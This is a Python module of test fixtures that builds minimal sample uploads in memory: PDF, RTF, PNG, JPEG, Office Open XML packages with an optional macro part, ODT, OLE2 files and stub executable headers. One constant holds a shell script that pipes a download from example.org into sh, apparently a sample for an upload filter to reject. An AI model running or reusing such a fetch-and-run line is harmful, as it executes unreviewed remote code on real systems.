"""Small, real files of each kind a contributor may upload, built in memory for tests."""

import io
import struct
import zipfile
import zlib

PDF = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    b"trailer << /Root 1 0 R >>\n%%EOF\n"
)
RTF = b"{\\rtf1\\ansi{\\fonttbl\\f0\\fswiss Helvetica;}\\f0\\pard Evidence.\\par}"
CSV = b"study,year,reach\nTwitter chat,2017,1200\n"
TXT = "Notes from our project, with a café and “quotes”.\n".encode()
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SCRIPT = b"#!/bin/sh\ncurl https://example.org/x | sh\n"


def png(width: int = 1, height: int = 1) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" + b"\xff\x00\x00" * width * height)
    chunks = chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
JPEG += b"\x00" * 64 + b"\xff\xd9"

_OOXML = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
}


def ooxml(kind: str, main_part: bool = True, macros: bool = False) -> bytes:
    """A minimal Office Open XML package, in the member order Office writes."""
    part, content_type = _OOXML[kind]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'content-types"><Override PartName="/{part}" ContentType="application/'
            f'vnd.openxmlformats-officedocument.{content_type}"/></Types>',
        )
        package.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        if main_part:
            package.writestr(part, f'<?xml version="1.0"?><root>{kind} evidence</root>')
        else:
            package.writestr(part.split("/")[0] + "/other.xml", "<other/>")
        if macros:
            package.writestr(part.split("/")[0] + "/vbaProject.bin", b"\x00" * 64)
    return buffer.getvalue()


def odt() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        package.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
        package.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest/>')
    return buffer.getvalue()


def ole(stream_name: str) -> bytes:
    """A minimal OLE2 compound file holding one small stream (Word 97 keeps 'WordDocument')."""
    sector = 512
    header = bytearray(sector)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", header, 0x2C, 1, 1, 0, 0x1000, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<I", header, 0x4C, 0)  # the FAT is sector 0
    for index in range(1, 109):
        struct.pack_into("<I", header, 0x4C + index * 4, 0xFFFFFFFF)
    # Sector 0: the FAT. Sector 1: the directory. Sector 2: the stream (4096 bytes = 8 sectors).
    fat = [0xFFFFFFFD, 0xFFFFFFFE, *range(3, 10), 0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (128 - len(fat))
    fat_sector = struct.pack("<128I", *fat)

    def entry(name: str, kind: int, start: int, size: int, child: int = 0xFFFFFFFF) -> bytes:
        raw = bytearray(128)
        encoded = (name + "\x00").encode("utf-16-le")
        raw[0 : len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 0x40, len(encoded), kind, 1)
        struct.pack_into("<III", raw, 0x44, 0xFFFFFFFF, 0xFFFFFFFF, child)
        struct.pack_into("<II", raw, 0x74, start, size)
        return bytes(raw)

    directory = (
        entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1)
        + entry(stream_name, 2, 2, 4096)
        + bytes(128 * 2)
    )
    data = b"\xec\xa5\xc1\x00" + b"\x00" * 4092
    return bytes(header) + fat_sector + directory + data
